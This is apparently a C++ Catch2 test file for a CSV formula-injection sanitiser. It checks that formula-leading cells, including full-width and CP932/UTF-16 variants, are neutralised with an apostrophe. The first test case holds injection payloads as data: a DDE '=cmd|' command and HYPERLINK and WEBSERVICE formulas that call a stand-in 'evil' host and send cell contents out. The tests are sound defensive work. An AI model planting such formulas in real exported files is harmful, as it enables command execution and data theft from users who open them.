// sanitizer.csv: OWASP CSV injection. Issue 10 class 1: a .csv with =cmd|..., HYPERLINK and
// WEBSERVICE formulas was delivered byte for byte; the variants are the ones OWASP lists and the
// ones a Japanese office produces (CP932, UTF-16, full-width signs).
#include <catch2/catch.hpp>

#include "sanitizers/csv/csv.h"

using mugai::sanitizers::csv::neutraliseFormulas;
using mugai::sanitizers::csv::Options;

namespace {

std::string run(const std::string& in, bool keep_numbers = true) {
  Options o;
  o.keep_numbers = keep_numbers;
  return neutraliseFormulas(in, o).data;
}

std::string utf16le(const std::string& ascii) {
  std::string out = "\xFF\xFE";
  for (char c : ascii) {
    out.push_back(c);
    out.push_back('\0');
  }
  return out;
}

}  // namespace

TEST_CASE("csv: the red team's formulas are made inert", "[csv]") {
  CHECK(run("a,=cmd|' /C calc'!A0\n") == "a,'=cmd|' /C calc'!A0\n");
  CHECK(run("=HYPERLINK(\"http://evil/\",\"x\")\n") == "'=HYPERLINK(\"http://evil/\",\"x\")\n");
  CHECK(run("x;=WEBSERVICE(\"http://evil/\"&A1)\n") == "x;'=WEBSERVICE(\"http://evil/\"&A1)\n");
}

TEST_CASE("csv: every OWASP start, also after spaces, quotes and any separator", "[csv]") {
  CHECK(run("+1+2,-1-cmd,@SUM(A1)\n") == "'+1+2,'-1-cmd,'@SUM(A1)\n");
  CHECK(run("\"=1+2\",\" =1\"\n") == "\"'=1+2\",\" '=1\"\n");
  CHECK(run("a,   =1\n") == "a,   '=1\n");
  CHECK(run("a\t=1\tb\n") == "a\t'=1\tb\n");       // TSV
  CHECK(run("a,\t=1\n") == "a,\t'=1\n");            // TAB before the formula in a CSV
  CHECK(run("\"\t=1\",\"\r=2\"\n") == "\"'\t=1\",\"'\r=2\"\n");  // TAB and CR inside quotes
  CHECK(run("a\r\n=1\r\n") == "a\r\n'=1\r\n");      // CRLF rows
  CHECK(run("\xEF\xBB\xBF=1\n") == "\xEF\xBB\xBF'=1\n");  // after a UTF-8 BOM
}

TEST_CASE("csv: full-width signs in UTF-8, CP932 and UTF-16", "[csv]") {
  CHECK(run("a,\xEF\xBC\x9D" "1+1\n") == "a,'\xEF\xBC\x9D" "1+1\n");   // ＝ UTF-8
  CHECK(run("\xEF\xBC\xA0SUM(1)\n") == "'\xEF\xBC\xA0SUM(1)\n");      // ＠ UTF-8
  CHECK(run("a,\x81\x81" "1\n") == "a,'\x81\x81" "1\n");              // ＝ CP932
  CHECK(run("\x81\x7B" "1\n") == "'\x81\x7B" "1\n");                  // ＋ CP932
  CHECK(run(utf16le("a,=1\n")) == utf16le("a,'=1\n"));
  std::string fw = std::string("\xFF\xFE", 2) + std::string("a\0,\0\x1D\xFF" "1\0\n\0", 10);
  std::string want = std::string("\xFF\xFE", 2) + std::string("a\0,\0'\0\x1D\xFF" "1\0\n\0", 12);
  CHECK(run(fw) == want);
}

TEST_CASE("csv: text, numbers and quoted separators stay as they were", "[csv]") {
  std::string plain = "name,amount,note\n\"Tanaka, Ichiro\",1200,\"a \"\"=quoted\"\" word\"\n";
  CHECK(run(plain) == plain);
  CHECK(run("-5,+3.25,\"-1,000\"\n") == "-5,+3.25,\"-1,000\"\n");
  CHECK(run("-5\n", false) == "'-5\n");
  CHECK(run("+81-3-1234-5678\n") == "'+81-3-1234-5678\n");  // Excel would compute it
  std::string cp932 = "\x8E\x81\x96\xBC,\x8B\xE0\x8A\x7A\n";  // 氏名,金額
  CHECK(run(cp932) == cp932);
  // Idempotent: a neutralised file is left as it is.
  std::string once = run("=1,+2,@3\n");
  CHECK(run(once) == once);
}
